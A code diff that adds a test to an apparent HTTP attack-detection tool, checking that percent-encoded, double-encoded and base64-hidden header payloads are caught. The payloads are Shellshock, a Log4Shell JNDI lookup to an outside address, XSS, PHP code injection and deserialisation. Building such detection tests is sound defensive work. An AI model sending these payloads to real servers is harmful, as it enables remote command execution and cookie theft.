@@ -1,9 +1,11 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { detectAttacks } from '../../src/detections/requests/attacks.ts';
 import { shapePrefilter, targetPrefilter } from '../../src/detections/requests/prefilter.ts';
-import { isBlindToDigits, routePattern } from '../../src/detections/requests/request.ts';
+import { isBlindToDigits, prepareRequests, routePattern } from '../../src/detections/requests/request.ts';
 import { shapeOfWord } from '../../src/detections/sigma/literals.ts';
 import { collapseNumbers, writeShape } from '../../src/events/request-keys.ts';
+import { loadEvents, memoryEngine } from '../fixtures/event-table.ts';
 
 const out = new Uint8Array(1 << 12);
 const shape = (target: string): string => {
@@ -101,4 +103,36 @@ describe('tests on routes and shapes let through all that the tests on texts do'
       { numRuns: 1000 },
     );
   });
+});
+
+it('what a header hides by percent signs, twice over, as entities or in base64 is read; a harmless one is left alone', async () => {
+  const engine = await memoryEngine();
+  const twice = (text: string): string => encodeURIComponent(encodeURIComponent(text));
+  const hidden: Readonly<Record<string, Record<string, string>>> = {
+    'command-injection': { user_agent: encodeURIComponent('() { :; }; /bin/bash -c id') },
+    template: { referer: `https://www.example.jp/${twice('${jndi:ldap://192.0.2.9/a}')}` },
+    xss: { user_agent: Buffer.from('<script>alert(document.cookie)</script>').toString('base64') },
+    'code-injection': { user_agent: twice("<?php system('id'); ?>") },
+    deserialisation: { forwarded: encodeURIComponent('O:4:"User":1:{s:2:"id";i:1;}') },
+  };
+  const harmless = [
+    { user_agent: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) 100% 値%20' },
+    { referer: 'https://www.example.jp/%E6%A4%9C%E7%B4%A2?q=%E3%83%9A%E3%83%83%E3%83%88+100%25' },
+    { user_agent: 'c29tZS1hcHAtdG9rZW4tMDEyMzQ1Njc4OQ==', forwarded: '192.0.2.1, 192.0.2.2%eth0' },
+    { user_agent: '%E3%83' },
+  ];
+  const rows = [...Object.values(hidden), ...harmless].map((more, i) => ({
+    src_ip: `198.51.100.${i}`,
+    time_us: i * 1e6,
+    target: '/',
+    path: '/',
+    method: 'GET',
+    status: 200,
+    ...more,
+  }));
+  await loadEvents(engine, rows);
+  await prepareRequests(engine);
+  const found = await detectAttacks(engine);
+  expect(found.map(d => d.family).sort()).toEqual(Object.keys(hidden).sort());
+  engine.close();
 });
